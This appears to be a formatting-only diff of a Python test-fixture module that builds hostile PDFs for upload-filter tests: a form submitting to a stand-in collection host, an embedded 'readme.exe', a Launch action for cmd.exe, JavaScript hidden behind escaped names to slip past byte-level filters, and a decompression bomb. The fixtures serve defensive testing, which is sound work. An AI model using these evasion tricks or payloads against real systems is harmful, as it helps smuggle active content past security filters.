@@ -1,5 +1,6 @@
 """PDFs for upload tests, built with pikepdf: a clean document with harmless navigation, and the same
 document carrying each kind of active content, hidden the ways a filter that reads bytes misses it."""
+
 from __future__ import annotations
 
 import io
@@ -23,9 +24,21 @@ def document() -> pikepdf.Pdf:
         page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
         page.obj.Contents = pdf.make_stream(_TEXT)
     first = pdf.pages[0].obj
-    first.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 730], Border=[0, 0, 0],
-        A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/zhengce/"))))]))
+    first.Annots = pdf.make_indirect(
+        Array(
+            [
+                pdf.make_indirect(
+                    Dictionary(
+                        Type=Name.Annot,
+                        Subtype=Name.Link,
+                        Rect=[72, 700, 300, 730],
+                        Border=[0, 0, 0],
+                        A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/zhengce/")),
+                    )
+                )
+            ]
+        )
+    )
     with pdf.open_outline() as outline:
         outline.root.append(pikepdf.OutlineItem("第一页", 0))
     pdf.Root.OpenAction = Array([first, Name.Fit])
@@ -75,9 +88,17 @@ def _launch(pdf):
 
 
 def _submit_form(pdf):
-    field = pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("submit"), Rect=[72, 500, 200, 530],
-        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://collect.example/x")))))
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            Ff=65536,
+            T=String("submit"),
+            Rect=[72, 500, 200, 530],
+            A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://collect.example/x"))),
+        )
+    )
     pdf.pages[0].obj.Annots.append(field)
     pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
 
@@ -103,13 +124,20 @@ def _embedded_files(pdf):
 
 def _file_attachment_annotation(pdf):
     spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 program", filename="readme.exe")
-    _annotate(pdf, 0, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30],
-                                 FS=spec.obj))
+    _annotate(pdf, 0, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec.obj))
 
 
 def _rich_media(pdf):
-    _annotate(pdf, 1, Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 72, 300, 300],
-                                 RichMediaContent=Dictionary(Assets=Dictionary(Names=Array()))))
+    _annotate(
+        pdf,
+        1,
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.RichMedia,
+            Rect=[72, 72, 300, 300],
+            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
+        ),
+    )
 
 
 def _xfa(pdf):
@@ -117,8 +145,22 @@ def _xfa(pdf):
 
 
 def _renditions(pdf):
-    pdf.Root.Names = Dictionary(Renditions=Dictionary(Names=Array([String("clip"), pdf.make_indirect(Dictionary(
-        Type=Name.Rendition, S=Name.MR, C=Dictionary(Type=Name.MediaClip, S=Name.MCD, D=String("clip.swf"))))])))
+    pdf.Root.Names = Dictionary(
+        Renditions=Dictionary(
+            Names=Array(
+                [
+                    String("clip"),
+                    pdf.make_indirect(
+                        Dictionary(
+                            Type=Name.Rendition,
+                            S=Name.MR,
+                            C=Dictionary(Type=Name.MediaClip, S=Name.MCD, D=String("clip.swf")),
+                        )
+                    ),
+                ]
+            )
+        )
+    )
 
 
 def _unknown_action(pdf):
@@ -179,13 +221,15 @@ def raw(objects: dict[int, bytes], *, root: int = 1, header: bytes = b"%PDF-1.7\
 def escaped_names() -> bytes:
     """The finding's file: /Open#41ction, /J#61vaScript, /L#61unch — the same names, spelled with escapes."""
     stream = zlib.compress(_TEXT)
-    return raw({
-        1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
-        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>",
-        4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
-        5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /L#61unch /F (cmd.exe) >> >>",
-    })
+    return raw(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>",
+            4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
+            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /L#61unch /F (cmd.exe) >> >>",
+        }
+    )
 
 
 def incremental_update(base: bytes, *, catalog_extra: bytes, new_objects: dict[int, bytes] | None = None) -> bytes:
@@ -209,7 +253,11 @@ def incremental_update(base: bytes, *, catalog_extra: bytes, new_objects: dict[i
         out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
     new_size = max(size, max(objects) + 1)
     out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
-        new_size, root_number, previous, xref)
+        new_size,
+        root_number,
+        previous,
+        xref,
+    )
     return bytes(out)
 
 
@@ -222,7 +270,8 @@ def object_stream_bomb(inflated: int = 1_000_000_000) -> bytes:
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>",
         4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(inner)
-           + inner + b"\nendstream",
+        + inner
+        + b"\nendstream",
     }
     out = bytearray(b"%PDF-1.5\n")
     offsets = _write_objects(out, objects)
@@ -231,8 +280,11 @@ def object_stream_bomb(inflated: int = 1_000_000_000) -> bytes:
     rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in range(1, 5)]
     rows += [b"\x02" + struct.pack(">I", 4) + b"\x00\x00", b"\x01" + struct.pack(">I", offsets[6]) + b"\x00\x00"]
     table = b"".join(rows)
-    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
-            + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
+    out += (
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
+        + table
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
+    )
     return bytes(out)
 
 
